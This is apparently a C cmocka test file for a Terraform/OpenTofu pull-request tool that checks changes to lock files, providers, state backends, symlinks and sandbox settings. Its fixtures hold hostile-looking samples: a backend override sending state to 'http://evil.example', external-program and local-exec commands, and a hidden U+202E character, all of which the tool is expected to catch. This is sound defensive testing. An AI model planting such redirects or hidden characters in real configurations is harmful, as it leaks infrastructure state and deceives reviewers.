/* A preparation looks at what a change does to its own surroundings: lock file, providers, the place of the state, what reviewers overlook. */
#include "plan/hygiene.h"
#include "plan/prepare.h"

#include "base/fs.h"
#include "tests/support/gitfix.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

#include <cmocka.h>

#define AWS "registry.terraform.io/hashicorp/aws"
#define LOCK(version, hash) "provider \"" AWS "\" {\n  version = \"" version "\"\n  hashes  = [\n    \"" hash "\",\n  ]\n}\n"
#define LOCK_1 LOCK("5.99.0", "h1:aaaaaaaaaaaa=")
#define LOCK_2 LOCK("5.100.0", "h1:bbbbbbbbbbbb=")
#define S3(bucket) "terraform {\n  backend \"s3\" {\n    bucket = \"" bucket "\"\n  }\n}\nresource \"aws_x\" \"y\" {\n  lifecycle {\n    prevent_destroy = true\n  }\n}\n"

struct world {
	struct gitfix git;
	char base[GIT_OID_HEX + 1], head[GIT_OID_HEX + 1];
	struct prepare_request req;
	struct prepare_result res;
	struct err err;
};

static void server(struct world *w, const char *providers)
{
	CLEANUP_FREE char *file = fs_join(w->git.root, "sluice-server.yaml");
	CLEANUP_FREE char *text = xasprintf("github:\n  token_file: t\n  webhook_secret_file: s\nrepositories: [\"a/b\"]\nproviders: { allow: %s }\n", providers);
	xstrset(&w->req.server_file, file);
	if (fs_write_atomic(file, text, strlen(text), 0600, &w->err) != 0)
		fail_msg("%s", w->err.msg);
}

static int setup(void **state)
{
	struct world *w = xcalloc(1, sizeof(*w));
	struct gitfix *g = &w->git;
	gitfix_open(g);
	gitfix_write(g, "net/main.tf", S3("one"));
	gitfix_write(g, "net/.terraform.lock.hcl", LOCK_1);
	gitfix_write(g, "app/main.tf", "resource \"terraform_data\" \"x\" {}\n");
	gitfix_commit(g, w->base);
	gitfix_git(g, "checkout -q -b topic");
	w->req = (struct prepare_request){.mirror_dir = xstrdup(g->mirror), .trees_dir = xstrdup(g->trees), .clone_url = xstrdup(g->url),
					  .base_ref = xstrdup("main"), .pull_number = 7};
	*state = w;
	return 0;
}

static int teardown(void **state)
{
	struct world *w = *state;
	prepare_result_free(&w->res);
	prepare_request_free(&w->req);
	gitfix_close(&w->git);
	free(w);
	return 0;
}

static void again(struct world *w)
{
	prepare_result_free(&w->res);
	if (prepare_run(&w->req, &w->res, &w->err) != 0)
		fail_msg("%s", w->err.msg);
	assert_int_equal(w->res.projects_n, 1);
}

/* Commits what was written on topic and prepares it. */
static const struct prepared_project *prepare(struct world *w)
{
	gitfix_commit(&w->git, w->head);
	gitfix_git(&w->git, "update-ref refs/pull/7/head %s", w->head);
	xstrset(&w->req.head_sha, w->head);
	again(w);
	return &w->res.projects[0];
}

/* Text of what is told, one a line; "" for nothing. */
static char *told_of(const struct prepared_project *p)
{
	struct told_list l = {0};
	struct err err;
	struct buf out = {0};
	if (p->told != NULL)
		assert_int_equal(told_read(p->told, &l, &err), 0);
	for (size_t i = 0; i < l.n; i++) {
		CLEANUP_FREE char *s = told_sentence(&l.v[i]);
		buf_printf(&out, "%s\n", s);
	}
	told_free(&l);
	return buf_take(&out);
}

static void refused(const struct prepared_project *p, const char *part)
{
	if (p->error == NULL || strstr(p->error, part) == NULL)
		fail_msg("%s instead of %s", p->error != NULL ? p->error : "no error", part);
}

/* The lock file in force, as it lies for the jobs. */
static void in_force(const struct world *w, const char *text)
{
	const struct prepared_project *p = &w->res.projects[0];
	CLEANUP_BUF struct buf b = {0};
	struct err err;
	struct stat st;
	assert_null(p->error);
	assert_non_null(p->lock_id);
	CLEANUP_FREE char *file = xasprintf("%s/locks/%s", w->git.trees, p->lock_id);
	assert_int_equal(fs_read(file, 1 << 16, &b, &err), 0);
	assert_string_equal(buf_str(&b), text);
	assert_int_equal(stat(file, &st), 0);
	assert_int_equal(st.st_mode & 07777, 0444);
	assert_non_null(strstr(p->bound, p->lock_id));
}

static void a_lock_file_that_is_left_alone(void **state)
{
	struct world *w = *state;
	gitfix_write(&w->git, "net/x.tf", "# x\n");
	const struct prepared_project *p = prepare(w);
	in_force(w, LOCK_1);
	assert_null(p->told);
	assert_string_equal(p->sandbox, "strict");
	assert_null(p->egress_plan);
	again(w); /* it is there already */
	in_force(w, LOCK_1);
}

static void a_lock_file_that_changes(void **state)
{
	struct world *w = *state;
	gitfix_write(&w->git, "net/.terraform.lock.hcl", LOCK_2);
	refused(prepare(w), "net/.terraform.lock.hcl:1 updates the provider `hashicorp/aws` 5.99.0 -> 5.100.0, and `providers.allow`");
	assert_null(w->res.projects[0].lock_id);
	assert_false(fs_exists(w->res.tree_dir) && w->res.projects[0].tree_dir != NULL);
	server(w, "[\"hashicorp/aws >= 5.99, < 5.100\"]");
	again(w);
	refused(&w->res.projects[0], "5.99.0 -> 5.100.0");
	server(w, "[\"hashicorp/aws >= 5.99, < 6\"]");
	again(w);
	in_force(w, LOCK_2);
	CLEANUP_FREE char *told = told_of(&w->res.projects[0]);
	assert_string_equal(told, "`net/.terraform.lock.hcl:1` updates the provider `hashicorp/aws` 5.99.0 -> 5.100.0\n");
}

/* The base branch went on: what it says now is in force, and the change has not changed anything. */
static void a_lock_file_of_a_branch_that_is_behind(void **state)
{
	struct world *w = *state;
	gitfix_write(&w->git, "net/x.tf", "# x\n");
	gitfix_commit(&w->git, w->head);
	gitfix_git(&w->git, "checkout -q main");
	gitfix_write(&w->git, "net/.terraform.lock.hcl", LOCK_2);
	gitfix_commit(&w->git, w->base);
	gitfix_git(&w->git, "checkout -q topic");
	gitfix_write(&w->git, "net/x.tf", "# y\n");
	prepare(w);
	in_force(w, LOCK_2);
	assert_null(w->res.projects[0].told);
}

static void a_lock_file_that_is_gone_or_new(void **state)
{
	struct world *w = *state;
	gitfix_git(&w->git, "rm -q net/.terraform.lock.hcl");
	refused(prepare(w), "net/.terraform.lock.hcl is removed, and with it the provider `hashicorp/aws` 5.99.0");
	gitfix_git(&w->git, "checkout -q main -- net/.terraform.lock.hcl");
	gitfix_write(&w->git, "app/.terraform.lock.hcl", LOCK_2);
	prepare(w);
	assert_string_equal(w->res.projects[0].name, "app");
	in_force(w, LOCK_2); /* without rules all of the mirror is allowed */
	server(w, "[\"hashicorp/random\"]");
	again(w);
	refused(&w->res.projects[0], "app/.terraform.lock.hcl:1: the provider `" AWS "` is not allowed");
}

static void providers(void **state)
{
	struct world *w = *state;
	server(w, "[\"hashicorp/aws\"]");
	gitfix_write(&w->git, "net/x.tf", "module \"m\" {\n  source = \"../modules/m\"\n}\n");
	gitfix_write(&w->git, "modules/m/main.tf", "\ndata \"external\" \"x\" {\n  program = [\"sh\"]\n}\n");
	refused(prepare(w), "modules/m/main.tf:2: the provider `registry.terraform.io/hashicorp/external`, which `data external` implies, is not allowed");
	server(w, "[\"hashicorp/*\"]");
	again(w);
	assert_null(w->res.projects[0].error);
	CLEANUP_FREE char *told = told_of(&w->res.projects[0]);
	assert_string_equal(told, "`modules/m/main.tf:2` `data.external.x` starts a program when it is planned\n");
}

static void another_place_of_the_state(void **state)
{
	struct world *w = *state;
	gitfix_write(&w->git, "net/backend_override.tf", "terraform {\n  backend \"http\" {\n    address = \"http://evil.example\"\n  }\n}\n");
	refused(prepare(w), "net/backend_override.tf:2: with this change the state would be read from another place than on `main` (`s3` -> `http`)");
	gitfix_git(&w->git, "rm -q --cached net/backend_override.tf");
	gitfix_git(&w->git, "clean -fdq");
	gitfix_write(&w->git, "net/main.tf", S3("two"));
	refused(prepare(w), "net/main.tf:2: with this change the state would be read from another place than on `main` (`bucket`)");
	CLEANUP_FREE char *bound = xstrdup(w->res.projects[0].bound);
	w->req.admin = true;
	again(w);
	assert_null(w->res.projects[0].error);
	assert_string_equal(w->res.projects[0].bound, bound);
	CLEANUP_FREE char *told = told_of(&w->res.projects[0]);
	assert_string_equal(told, "`net/main.tf:2` reads the state from another place than the base branch (`bucket`), as an admin allowed\n");
	w->req.admin = false;
	gitfix_write(&w->git, "net/main.tf", S3("one") "# same\n");
	assert_null(prepare(w)->error);
	assert_string_not_equal(w->res.projects[0].bound, bound);
}

/* The box of a project is the base branch's to say; an empty list is another thing than none. */
static void the_box(void **state)
{
	struct world *w = *state;
	gitfix_git(&w->git, "checkout -q main");
	gitfix_write(&w->git, "sluice.yaml", "version: 1\nprojects:\n  - dir: net\n    sandbox: compat\n    egress: { plan: [\"a.example.com:443\", \"b.example.com:443\"], apply: [] }\n");
	gitfix_commit(&w->git, w->base);
	gitfix_git(&w->git, "checkout -q topic");
	gitfix_git(&w->git, "rebase -q main");
	gitfix_write(&w->git, "sluice.yaml", "version: 1\nprojects:\n  - dir: net\n");
	gitfix_write(&w->git, "net/x.tf", "# x\n");
	const struct prepared_project *p = prepare(w);
	assert_string_equal(p->sandbox, "compat");
	assert_string_equal(p->egress_plan, "a.example.com:443\nb.example.com:443");
	assert_string_equal(p->egress_apply, "");
}

/* The engines follow links, and so do we. */
static void through_links(void **state)
{
	struct world *w = *state;
	CLEANUP_FREE char *link = fs_join(w->git.dir, "net/backend_override.tf"), *second = fs_join(w->git.dir, "shared/b");
	gitfix_write(&w->git, "shared/a", "terraform {\n  backend \"http\" {}\n}\n");
	assert_int_equal(symlink("a", second), 0);
	assert_int_equal(symlink("../shared/b", link), 0);
	refused(prepare(w), "net/backend_override.tf:2: with this change the state would be read from another place");
	assert_int_equal(unlink(link), 0);
	assert_int_equal(symlink("../nowhere", link), 0);
	refused(prepare(w), "net/backend_override.tf is a symbolic link that sluice cannot follow");
}

/* A project that is new has no other place; one whose state is ours has none either. */
static void no_other_place(void **state)
{
	struct world *w = *state;
	gitfix_write(&w->git, "new/main.tf", S3("two"));
	assert_null(prepare(w)->error);
	gitfix_git(&w->git, "rm -rq --cached new");
	gitfix_git(&w->git, "clean -fdq");
	gitfix_write(&w->git, "app/b.tf", "terraform {\n  backend \"local\" {}\n}\n");
	assert_null(prepare(w)->error);
	gitfix_write(&w->git, "app/b.tf", "terraform {\n  backend \"http\" {}\n}\n");
	refused(prepare(w), "`none` -> `http`");
}

static void told(void **state)
{
	struct world *w = *state;
	gitfix_write(&w->git, ".gitattributes", "*.json linguist-generated\n");
	gitfix_write(&w->git, "app/main.tofu", "resource \"terraform_data\" \"x\" {\n  provisioner \"local-exec\" {\n    command = \"id\"\n  }\n}\n");
	gitfix_write(&w->git, "app/z_override.tf", "provider \"x\" {}\n");
	gitfix_write(&w->git, "app/y.tf.json", "{\"removed\": [{\"from\": \"terraform_data.x\"}]}\n");
	gitfix_write(&w->git, "app/run.sh", "#!/bin/sh\n# \xe2\x80\xae\n");
	gitfix_git(&w->git, "config core.fileMode true");
	CLEANUP_FREE char *script = fs_join(w->git.dir, "app/run.sh");
	assert_int_equal(chmod(script, 0755), 0);
	const struct prepared_project *p = prepare(w);
	CLEANUP_FREE char *told = told_of(p);
	assert_null(p->error);
	assert_string_equal(told, "`.gitattributes:1` folds the diff away of `app/y.tf.json`\n"
				  "`app/main.tofu` takes the place of `app/main.tf`, which OpenTofu does not read any more\n"
				  "`app/main.tofu:2` `terraform_data.x` starts a program when it is applied (`local-exec` provisioner)\n"
				  "`app/run.sh` is executable\n"
				  "`app/run.sh:2` holds a character that nobody sees, or that turns the writing direction: `<U+202E>`\n"
				  "`app/y.tf.json` is configuration in JSON, read beside the other files\n"
				  "`app/y.tf.json:1` takes `\"terraform_data.x\"` out of the configuration and destroys it\n"
				  "`app/z_override.tf` is an override file: it replaces what other files say, how providers are configured\n");
}

/* What the base branch did meanwhile is not told as if this change had done it. */
static void told_of_this_change_alone(void **state)
{
	struct world *w = *state;
	gitfix_git(&w->git, "checkout -q main");
	gitfix_write(&w->git, "net/main.tf", "terraform {\n  backend \"s3\" {\n    bucket = \"one\"\n  }\n}\n");
	gitfix_commit(&w->git, w->base);
	gitfix_git(&w->git, "checkout -q topic");
	gitfix_write(&w->git, "net/x.tf", "# x\n");
	assert_null(prepare(w)->told);
	gitfix_write(&w->git, "net/main.tf", "terraform {\n  backend \"s3\" {\n    bucket = \"one\"\n  }\n}\n");
	CLEANUP_FREE char *told = told_of(prepare(w));
	assert_string_equal(told, "`net/main.tf` `aws_x.y` loses `prevent_destroy`\n");
}

#define T(f) cmocka_unit_test_setup_teardown(f, setup, teardown)
int main(void)
{
	const struct CMUnitTest tests[] = {
		T(a_lock_file_that_is_left_alone), T(a_lock_file_that_changes), T(a_lock_file_of_a_branch_that_is_behind), T(a_lock_file_that_is_gone_or_new),
		T(providers), T(another_place_of_the_state), T(the_box), T(through_links), T(no_other_place), T(told), T(told_of_this_change_alone),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
